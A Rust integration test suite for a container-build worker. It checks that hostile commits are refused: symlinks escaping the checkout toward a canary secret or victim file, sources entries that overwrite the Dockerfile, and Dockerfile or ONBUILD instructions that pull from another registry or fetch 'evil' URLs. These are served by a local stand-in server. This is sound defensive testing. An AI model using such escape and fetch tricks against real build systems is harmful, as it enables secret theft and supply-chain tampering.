//! A hostile commit against the real worker, RabbitMQ, Redis, Docker Engine and registry
//! (issue 16): symlinks out of the checkout read and write nothing outside it and print
//! nothing of what they point at; the engine is never asked for an image of another
//! registry or a URL the worker does not allow (`COPY --from`, `RUN --mount from=`,
//! `ADD <url>`, a parent's ONBUILD triggers); symlinks inside the checkout still build.
//!
//! The "outside" is watched directly: a canary file holding a random secret, a path that
//! must stay absent, a victim file that must stay unchanged, and an HTTP server standing in
//! for the other registry and the download site, which records every request the engine
//! would make.

mod support;

use osbs_common::store::BuildRecord;
use osbs_proto::v1::{BuildJob, BuildState};
use osbs_testkit::REGISTRY;
use std::path::{Path, PathBuf};
use support::*;

struct Case {
    repo: &'static str,
    expect: String,
    job: BuildJob,
}

/// One build per case, submitted at once; returns each case's final record.
async fn run_cases(harness: &Harness, cases: &[Case]) -> Vec<BuildRecord> {
    for case in cases {
        harness.submit(&case.job).await;
    }
    let mut records = Vec::new();
    for case in cases {
        records.push(harness.wait_final(&case.job.build_id).await);
    }
    records
}

/// Every case failed with its one-line reason (record, log, result, state event).
async fn assert_refused(harness: &Harness, cases: &[Case], records: &[BuildRecord]) {
    let results = harness.results().await;
    let events = harness.state_events().await;
    for (case, record) in cases.iter().zip(records) {
        let log = harness.log(&case.job.build_id);
        let result = results
            .iter()
            .find(|result| result.build_id == case.job.build_id)
            .unwrap_or_else(|| panic!("{}: no result", case.repo));
        let error = assert_failed_with(record, &log, result, &case.expect);
        let event = events
            .iter()
            .find(|event| {
                event.build_id == case.job.build_id && event.new_state == BuildState::Failed
            })
            .unwrap_or_else(|| panic!("{}: no failed state event", case.repo));
        assert_eq!(event.reason, error, "{}", case.repo);
        assert!(
            !log.contains("Step 1/"),
            "{}: the build reached the engine:\n{log}",
            case.repo
        );
        println!("{:>22}: {error}", case.repo);
    }
}

/// Every file under `dir`, read.
fn files_under(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut found = Vec::new();
    let mut pending = vec![dir.to_owned()];
    while let Some(dir) = pending.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            if entry.file_type().unwrap().is_dir() {
                pending.push(path);
            } else if let Ok(content) = std::fs::read(&path) {
                found.push((path, content));
            }
        }
    }
    found
}

fn labels(name: &str) -> String {
    format!("LABEL com.redhat.component={name} name={name} version=1\n")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn symlinks_out_of_the_checkout_read_and_write_nothing_outside() {
    let base = busybox_base();
    let harness = Harness::new().await;
    let worker = harness
        .start_worker(|config| config.worker.concurrency = 2)
        .await;
    let secret = format!("OSBS-CANARY-{}", uuid::Uuid::new_v4().simple());
    let canary = harness.dir.path().join("canary");
    std::fs::write(&canary, format!("{secret}\nsecond line {secret}\n")).unwrap();
    let absent = harness.dir.path().join("written-by-a-download");
    let victim = harness.dir.path().join("victim");
    std::fs::write(&victim, "the victim, unchanged").unwrap();
    let canary_path = canary.display().to_string();
    let (absent_path, victim_path) = (absent.display().to_string(), victim.display().to_string());
    let good = format!("FROM {base}\n{}", labels(&format!("sec-{}", harness.tag)));
    let payload = b"a lookaside payload".to_vec();
    let evil_dockerfile = format!("FROM {base}\nRUN echo replaced\n");
    let mut cases = Vec::new();
    let mut case =
        |repo: &'static str, files: Vec<(&str, String)>, links: Vec<(&str, &str)>, expect: &str| {
            let owned: Vec<(&str, &[u8])> = files
                .iter()
                .map(|(path, text)| (*path, text.as_bytes()))
                .collect();
            let (url, commit) = harness.repo_with_links(repo, &owned, &links);
            // The lookaside has what each sources entry names: only the refusal stops a fetch.
            for (name, content) in [
                ("payload.tgz", payload.clone()),
                ("victim.tgz", payload.clone()),
                ("Dockerfile", evil_dockerfile.clone().into_bytes()),
                (".dockerignore", b"*\n".to_vec()),
            ] {
                let hash = sha512_hex(&content);
                harness.files.put(
                    &format!("/repo/pkgs/container/{repo}/{name}/sha512/{hash}/{name}"),
                    content,
                );
            }
            cases.push(Case {
                repo,
                expect: expect.to_owned(),
                job: harness.job(repo, &url, &commit),
            });
        };
    let escapes = "in the commit is a symlink that leads out of the repository";
    case(
        "link-dockerfile",
        vec![],
        vec![("Dockerfile", canary_path.as_str())],
        &format!("Dockerfile {escapes}"),
    );
    // checkout = <dir>/work/<build>/src: three `..` reach the canary.
    case(
        "link-dockerfile-dotdot",
        vec![],
        vec![("Dockerfile", "../../../canary")],
        &format!("Dockerfile {escapes}"),
    );
    case(
        "link-sources",
        vec![("Dockerfile", good.clone())],
        vec![("sources", canary_path.as_str())],
        &format!("sources {escapes}"),
    );
    case(
        "link-dockerignore",
        vec![("Dockerfile", good.clone())],
        vec![(".dockerignore", canary_path.as_str())],
        &format!(".dockerignore {escapes}"),
    );
    let sources = format!(
        "SHA512 (payload.tgz) = {}\nSHA512 (victim.tgz) = {}\n",
        sha512_hex(&payload),
        sha512_hex(&payload)
    );
    case(
        "link-download",
        vec![("Dockerfile", good.clone()), ("sources", sources)],
        vec![
            ("payload.tgz", absent_path.as_str()),
            ("victim.tgz", victim_path.as_str()),
        ],
        "sources file names \"payload.tgz\", which the commit itself holds",
    );
    case(
        "tracked-dockerfile",
        vec![
            ("Dockerfile", good.clone()),
            (
                "sources",
                format!(
                    "SHA512 (Dockerfile) = {}\n",
                    sha512_hex(evil_dockerfile.as_bytes())
                ),
            ),
        ],
        vec![],
        "sources file names \"Dockerfile\", which the commit itself holds",
    );
    case(
        "reserved-dockerignore",
        vec![
            ("Dockerfile", good.clone()),
            (
                "sources",
                format!("SHA512 (.dockerignore) = {}\n", sha512_hex(b"*\n")),
            ),
        ],
        vec![],
        "sources file names \".dockerignore\", a file the worker reads from the commit itself",
    );
    let records = run_cases(&harness, &cases).await;
    assert_refused(&harness, &cases, &records).await;

    // Nothing was written outside, nothing fetched for a refused entry.
    assert!(!absent.exists(), "a download was written through a symlink");
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        "the victim, unchanged"
    );
    assert_eq!(
        harness.files.requests_under("/repo/pkgs/"),
        Vec::<String>::new(),
        "a sources entry was fetched before its refusal"
    );
    // Nothing of the canary in any record, log, artifact, result or event.
    for (case, record) in cases.iter().zip(&records) {
        for (field, value) in &record.fields {
            assert!(
                !value.contains(&secret),
                "{}: record field {field} holds the secret",
                case.repo
            );
        }
    }
    for (path, content) in files_under(&harness.artifacts_dir()) {
        assert!(
            !String::from_utf8_lossy(&content).contains(&secret),
            "{} holds the secret",
            path.display()
        );
    }
    worker.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn symlinks_inside_the_checkout_still_build() {
    let base = busybox_base();
    let harness = Harness::new().await;
    let worker = harness.start_worker(|_| {}).await;
    let name = format!("inside-links-{}", harness.tag);
    let payload = format!("payload of {}", harness.tag).into_bytes();
    let hash = sha512_hex(&payload);
    harness.files.put(
        &format!("/repo/pkgs/container/inside-links/payload.bin/sha512/{hash}/payload.bin"),
        payload.clone(),
    );
    let dockerfile = format!(
        "FROM {base}\nCOPY link.txt /link.txt\nCOPY dir-link/real.txt /via-dir.txt\nCOPY payload.bin /payload.bin\nCOPY . /ctx/\n{}",
        labels(&name)
    );
    let (url, commit) = harness.repo_with_links(
        "inside-links",
        &[
            ("docker/Dockerfile", dockerfile.as_bytes()),
            (
                "docker/sources",
                format!("SHA512 (payload.bin) = {hash}\n").as_bytes(),
            ),
            ("docker/ignore", b"ignored.txt\n"),
            ("files/real.txt", b"real content"),
            ("ignored.txt", b"named in the .dockerignore"),
        ],
        &[
            ("Dockerfile", "docker/Dockerfile"),
            ("sources", "docker/sources"),
            (".dockerignore", "./docker/ignore"),
            ("link.txt", "files/real.txt"),
            ("dir-link", "files"),
            ("files/up", "../docker"),
        ],
    );
    let job = harness.job("inside-links", &url, &commit);
    harness.submit(&job).await;
    let record = harness.wait_final(&job.build_id).await;
    let log = harness.log(&job.build_id);
    assert_eq!(
        record.state,
        BuildState::Complete,
        "{:?}\n{log}",
        record.fields
    );
    assert!(log.contains("downloaded payload.bin"), "{log}");
    let repository = format!("{REGISTRY}/osbs-worker-test-{}/{name}", harness.tag);
    let image = pushed_image(&repository, record.digest()).await;
    let top = image.layers.last().unwrap();
    let file = |path: &str| {
        top.iter()
            .find(|(entry, _)| entry.trim_end_matches('/') == path)
            .map(|(_, content)| content.clone())
    };
    assert_eq!(file("link.txt").as_deref(), Some(&b"real content"[..]));
    assert_eq!(file("via-dir.txt").as_deref(), Some(&b"real content"[..]));
    assert_eq!(file("payload.bin").as_deref(), Some(payload.as_slice()));
    assert_eq!(
        file("ctx/files/real.txt").as_deref(),
        Some(&b"real content"[..])
    );
    // The worker read the symlinked `.dockerignore` and put its own copy in the context.
    let ignore = file("ctx/.dockerignore").expect("no .dockerignore in the context");
    assert!(
        ignore.starts_with(b"ignored.txt\n"),
        "{}",
        String::from_utf8_lossy(&ignore)
    );
    assert!(
        file("ctx/link.txt").is_some(),
        "the symlink itself is in the context"
    );
    // ...and left out what it excludes, as the Docker CLI would.
    assert_eq!(
        file("ctx/ignored.txt"),
        None,
        "the .dockerignore was not applied"
    );
    worker.stop().await;
}

/// An image with `triggers` as its ONBUILD instructions, pushed to the local registry
/// under this test's own repository.
fn onbuild_parent(harness: &Harness, name: &str, triggers: &[String]) -> String {
    let reference = format!("{REGISTRY}/osbs-worker-test-{}/{name}:1", harness.tag);
    let mut args = vec!["docker".to_owned(), "import".to_owned()];
    for trigger in triggers {
        args.push("--change".into());
        args.push(format!("ONBUILD {trigger}"));
    }
    args.extend(["-".into(), reference.clone()]);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    osbs_testkit::run_with_stdin(&args, &osbs_testkit::busybox_rootfs_tar(&[]));
    osbs_testkit::run(&["docker", "push", &reference]);
    reference
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_engine_is_asked_for_no_other_registry_and_no_url() {
    let base = busybox_base();
    let harness = Harness::new().await;
    let worker = harness
        .start_worker(|config| config.worker.concurrency = 2)
        .await;
    // The test's HTTP server stands in for the other registry and the download site.
    let other = format!("127.0.0.1:{}", harness.files.port);
    let tools = format!("{other}/tools:1");
    let good_labels = labels(&format!("reach-{}", harness.tag));
    let onbuild_copy = onbuild_parent(
        &harness,
        "onbuild-copy",
        &[format!("COPY --from={tools} /a /b")],
    );
    let onbuild_add = onbuild_parent(
        &harness,
        "onbuild-add",
        &[format!("ADD http://{other}/evil/onbuild /o")],
    );
    let onbuild_bare = onbuild_parent(
        &harness,
        "onbuild-bare",
        &["COPY --from=busybox /a /b".into()],
    );
    let mut cases = Vec::new();
    let mut case = |repo: &'static str, dockerfile: String, expect: String| {
        let (url, commit) = harness.repo(repo, &[("Dockerfile", dockerfile.as_bytes())]);
        cases.push(Case {
            repo,
            expect,
            job: harness.job(repo, &url, &commit),
        });
    };
    let other_registry =
        format!("names registry {other}, but this target builds only from {REGISTRY}");
    case(
        "copy-from-other",
        format!("FROM {base}\nCOPY --from={tools} /bin/sh /sh\n{good_labels}"),
        format!("COPY --from={tools} on line 2 {other_registry}"),
    );
    case(
        "copy-from-arg",
        format!(
            "ARG TOOLS={tools}\nFROM {base}\nCOPY --from=${{TOOLS}} /bin/sh /sh\n{good_labels}"
        ),
        format!("COPY --from={tools} on line 3 {other_registry}"),
    );
    case(
        "mount-from-other",
        format!("FROM {base}\nRUN --mount=type=bind,from={tools},target=/t true\n{good_labels}"),
        format!("RUN --mount from={tools} on line 2 {other_registry}"),
    );
    case(
        "add-url",
        format!("FROM {base}\nADD http://{other}/evil/payload /payload\n{good_labels}"),
        format!(
            "ADD http://{other}/evil/payload on line 2 downloads from the network, which this worker does not allow"
        ),
    );
    case(
        "onbuild-copy",
        format!("FROM {onbuild_copy}\n{good_labels}"),
        format!("has the ONBUILD trigger `COPY --from={tools} /a /b`, which {other_registry}"),
    );
    case(
        "onbuild-add",
        format!("FROM {onbuild_add}\n{good_labels}"),
        format!(
            "which downloads http://{other}/evil/onbuild from the network, which this worker does not allow"
        ),
    );
    case(
        "onbuild-bare",
        format!("FROM {base} AS build\nFROM {onbuild_bare}\n{good_labels}"),
        "names busybox without a registry, so the engine would pull it from docker.io".into(),
    );
    let records = run_cases(&harness, &cases).await;
    assert_refused(&harness, &cases, &records).await;
    assert_eq!(
        harness.files.requests_under("/"),
        Vec::<String>::new(),
        "the engine was asked for another registry or a URL"
    );

    // What stays on the base registry builds, pinned; a trigger naming it runs.
    let name = format!("reach-ok-{}", harness.tag);
    let onbuild_ok = onbuild_parent(
        &harness,
        "onbuild-ok",
        &[
            "RUN touch /onbuild-ran".into(),
            format!("COPY --from={base} /etc/passwd /onbuild-passwd"),
        ],
    );
    let dockerfile = format!(
        "FROM {onbuild_ok}\nCOPY --from={base} /bin/busybox /copied-busybox\n{}",
        labels(&name)
    );
    let (url, commit) = harness.repo("reach-ok", &[("Dockerfile", dockerfile.as_bytes())]);
    let job = harness.job("reach-ok", &url, &commit);
    harness.submit(&job).await;
    let record = harness.wait_final(&job.build_id).await;
    let log = harness.log(&job.build_id);
    assert_eq!(
        record.state,
        BuildState::Complete,
        "{:?}\n{log}",
        record.fields
    );
    let final_dockerfile = std::fs::read_to_string(
        harness
            .artifacts_dir()
            .join(&job.build_id)
            .join("Dockerfile"),
    )
    .unwrap();
    let pinned_base = format!("{}@sha256:", base.rsplit_once(':').unwrap().0);
    assert!(
        final_dockerfile.contains(&format!("COPY --from={pinned_base}")),
        "{final_dockerfile}"
    );
    let repository = format!("{REGISTRY}/osbs-worker-test-{}/{name}", harness.tag);
    let image = pushed_image(&repository, record.digest()).await;
    let top = image.layers.last().unwrap();
    for path in ["onbuild-ran", "onbuild-passwd", "copied-busybox"] {
        assert!(top.iter().any(|(entry, _)| entry == path), "{path} missing");
    }
    worker.stop().await;

    // The stand-in does see the engine when the engine is asked: the silence above means
    // something.
    let pulled = std::process::Command::new("docker")
        .args(["pull", &tools])
        .output()
        .unwrap();
    assert!(!pulled.status.success());
    assert!(
        !harness.files.requests_under("/v2/").is_empty(),
        "the stand-in registry cannot observe the engine"
    );
    for image in [onbuild_copy, onbuild_add, onbuild_bare, onbuild_ok] {
        let _ = std::process::Command::new("docker")
            .args(["rmi", &image])
            .output();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn url_sources_come_only_from_allowed_sites() {
    let base = busybox_base();
    let harness = Harness::new().await;
    let allowed = harness.files.url("/allowed/");
    let worker = harness
        .start_worker(|config| config.worker.allowed_source_urls = vec![allowed.clone()])
        .await;
    let content = format!("fetched by the engine for {}", harness.tag);
    harness.files.put("/allowed/file.txt", content.clone());
    harness.files.put("/other/file.txt", "never fetched");
    let refused_name = format!("url-refused-{}", harness.tag);
    let (url, commit) = harness.repo(
        "url-refused",
        &[(
            "Dockerfile",
            format!(
                "FROM {base}\nADD {} /x\n{}",
                harness.files.url("/other/file.txt"),
                labels(&refused_name)
            )
            .as_bytes(),
        )],
    );
    let refused = Case {
        repo: "url-refused",
        expect: format!(
            "ADD {} on line 2 is not allowed (allowed: {allowed})",
            harness.files.url("/other/file.txt")
        ),
        job: harness.job("url-refused", &url, &commit),
    };
    let name = format!("url-allowed-{}", harness.tag);
    let (url, commit) = harness.repo(
        "url-allowed",
        &[(
            "Dockerfile",
            format!(
                "FROM {base}\nADD {allowed}file.txt /from-url.txt\n{}",
                labels(&name)
            )
            .as_bytes(),
        )],
    );
    let job = harness.job("url-allowed", &url, &commit);
    let cases = [refused];
    let records = run_cases(&harness, &cases).await;
    assert_refused(&harness, &cases, &records).await;
    harness.submit(&job).await;
    let record = harness.wait_final(&job.build_id).await;
    let log = harness.log(&job.build_id);
    assert_eq!(
        record.state,
        BuildState::Complete,
        "{:?}\n{log}",
        record.fields
    );
    let repository = format!("{REGISTRY}/osbs-worker-test-{}/{name}", harness.tag);
    let image = pushed_image(&repository, record.digest()).await;
    let top = image.layers.last().unwrap();
    assert!(
        top.iter()
            .any(|(entry, bytes)| entry == "from-url.txt" && bytes == content.as_bytes()),
        "the allowed URL's file is not in the image"
    );
    assert_eq!(
        harness.files.requests_under("/other/"),
        Vec::<String>::new()
    );
    let fetched = harness.files.requests_under("/allowed/");
    assert!(
        !fetched.is_empty() && fetched.iter().all(|path| path == "/allowed/file.txt"),
        "{fetched:?}"
    );
    worker.stop().await;
}
